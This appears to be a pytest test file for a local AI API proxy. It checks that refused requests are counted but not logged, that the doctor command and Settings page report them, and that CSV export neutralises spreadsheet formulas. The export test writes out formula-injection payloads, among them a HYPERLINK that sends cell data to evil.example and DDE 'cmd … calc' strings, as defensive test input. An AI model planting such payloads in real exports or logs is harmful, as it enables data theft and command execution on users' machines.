"""Refused requests cost nothing: a web page or a program without the token that hammers the proxy gets its
401/403 in its own API shape, counted in memory by reason (shown by `downshift doctor` and on the Settings
page), and never a row in the call log (which it could otherwise fill, and which `stats` would count)."""

from __future__ import annotations

import json
from dataclasses import replace
from pathlib import Path

import httpx
import pytest
from conftest import logged_calls

from app.cli import main as cli

CHAT = {"model": "default", "messages": [{"role": "user", "content": "hi"}]}


def test_refused_requests_are_counted_not_logged(proxy, mock, token, core, capsys) -> None:  # type: ignore[no-untyped-def]
    url = f"{proxy.url}/v1/chat/completions"
    body = json.dumps(CHAT)
    with httpx.Client(timeout=10) as client:
        for _ in range(150):  # what a page can send without a preflight: a text/plain POST, no token
            r = client.post(url, content=body, headers={"Content-Type": "text/plain"})
            assert r.status_code == 401 and r.json()["error"]["code"] == "missing_token"
        for _ in range(
            100
        ):  # the same with Origin (a browser adds it): refused before the token is looked at
            r = client.post(
                url, content=body, headers={"Content-Type": "text/plain", "Origin": "https://evil.example"}
            )
            assert r.status_code == 403 and r.json()["error"]["code"] == "forbidden_origin"
        for _ in range(30):
            r = client.post(
                f"{proxy.url}/v1/messages", json={**CHAT, "max_tokens": 5}, headers={"x-api-key": "ds-guess"}
            )
            assert r.status_code == 401 and r.json()["type"] == "error"  # the caller's shape
        for _ in range(20):
            r = client.post(
                url, json=CHAT, headers={"Authorization": f"Bearer {token}", "Host": "evil.example"}
            )
            assert r.status_code == 403
        assert client.get(f"{proxy.url}/v1/models").status_code == 401
        assert client.options(url, headers={"Origin": "https://evil.example"}).status_code == 403
        assert client.post(url, json=CHAT, headers={"Authorization": f"Bearer {token}"}).status_code == 200
    assert mock.requests and len(mock.requests) == 1
    rows = logged_calls(core)
    assert [(r["status"], r["outcome"]) for r in rows] == [
        (200, "ok")
    ]  # only the authenticated call is a call
    counts = proxy.server.refusals.counts
    assert counts == {"missing_token": 151, "forbidden_origin": 101, "bad_token": 30, "forbidden_host": 20}

    # stats do not see the refusals
    assert cli(["stats", "--json", "--config", str(core.config_path), "--db", core.db_url]) == 0
    assert json.loads(capsys.readouterr().out)["total"]["calls"] == 1

    # the status endpoint (behind the token) reports them; without the token it is one more refusal
    status = httpx.get(f"{proxy.url}/downshift/status", headers={"Authorization": f"Bearer {token}"})
    assert status.status_code == 200
    refused = status.json()["refused"]
    assert refused["total"] == 302 and refused["by_reason"]["missing_token"] == 151
    assert httpx.get(f"{proxy.url}/downshift/status").status_code == 401
    assert proxy.server.refusals.counts["missing_token"] == 152
    assert len(logged_calls(core)) == 1


def test_doctor_shows_the_running_proxys_refusals(proxy, token, core, capsys) -> None:  # type: ignore[no-untyped-def]
    core.config_store.update(lambda c: replace(c, port=proxy.port))  # doctor looks at the configured port
    for _ in range(3):
        httpx.post(
            f"{proxy.url}/v1/chat/completions", json=CHAT, headers={"Authorization": "Bearer ds-old-token"}
        )
    args = ["doctor", "--config", str(core.config_path), "--db", core.db_url, "--offline", "--no-qt"]
    cli([*args, "--json"])
    checks = {c["name"]: c for c in json.loads(capsys.readouterr().out)["checks"]}
    assert checks["port"]["details"]["running"] is True
    assert checks["refused"]["status"] == "warn"
    assert checks["refused"]["details"]["refused"]["by_reason"] == {"bad_token": 3}
    cli(args)
    out = capsys.readouterr().out
    assert "3 requests refused (bad_token 3)" in out and "downshift env" in out


def test_settings_page_shows_refusals(ctx, proxy, qtbot) -> None:  # type: ignore[no-untyped-def]
    pytest.importorskip("PySide6")
    from app.ui.pages.settings import SettingsPage

    page = SettingsPage(ctx)
    qtbot.addWidget(page)
    page.show()  # the count is polled while the page is shown, as in the window
    assert page.refused.text().startswith("No request refused")
    for _ in range(2):
        httpx.post(f"{proxy.url}/v1/chat/completions", content=b"{}", headers={"Origin": "null"})
    qtbot.waitUntil(lambda: "2 requests refused (forbidden_origin 2)" in page.refused.text(), timeout=5000)
    assert "not logged as calls" in page.refused.text()


def test_the_settings_page_polls_the_refusals_only_while_shown(ctx, proxy, qtbot) -> None:  # type: ignore[no-untyped-def]
    pytest.importorskip("PySide6")
    from app.ui.pages.settings import SettingsPage

    page = SettingsPage(ctx)
    qtbot.addWidget(page)
    assert not page._refused_timer.isActive()  # built but never shown: no polling
    page.show()
    assert page._refused_timer.isActive()
    page.hide()
    assert not page._refused_timer.isActive()
    httpx.post(f"{proxy.url}/v1/chat/completions", content=b"{}", headers={"Origin": "null"})
    qtbot.wait(2300)  # longer than one polling interval: a hidden page's text stays as it was
    assert page.refused.text().startswith("No request refused")
    page.show()  # shown again: up to date at once, not two seconds later
    assert "1 request refused" in page.refused.text()


@pytest.fixture
def ctx(qtbot, core, proxy):  # type: ignore[no-untyped-def]
    from PySide6.QtCore import QObject

    from app.ui.background import Background
    from app.ui.bridge import CoreBridge
    from app.ui.context import UiContext

    owner = QObject()
    context = UiContext(core, proxy, CoreBridge(core.events, owner), Background(owner))
    yield context
    context.wait()
    context.bridge.close()
    owner.deleteLater()


def test_export_neutralises_spreadsheet_formulas(proxy, mock, token, core, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    import csv

    hostile = [
        '=HYPERLINK("http://evil.example/?"&A1,"x")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ]
    for model in hostile:
        r = httpx.post(
            f"{proxy.url}/v1/chat/completions",
            json={**CHAT, "model": model},
            headers={"Authorization": f"Bearer {token}", "User-Agent": "=cmd|'/c calc'!A1"},
        )
        assert r.status_code in (200, 400, 404), r.text
    logged_calls(core)
    out = tmp_path / "calls.csv"
    assert (
        cli(["export", "calls", "--out", str(out), "--config", str(core.config_path), "--db", core.db_url])
        == 0
    )
    with out.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == len(hostile)
    for row in rows:
        for value in row.values():
            assert not value or value[0] not in "=+-@\t\r" or _is_number(value), value
    assert {r["requested_model"] for r in rows} == {"'" + m for m in hostile}
    assert all(r["user_agent"] == "'=cmd|'/c calc'!A1" for r in rows)


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
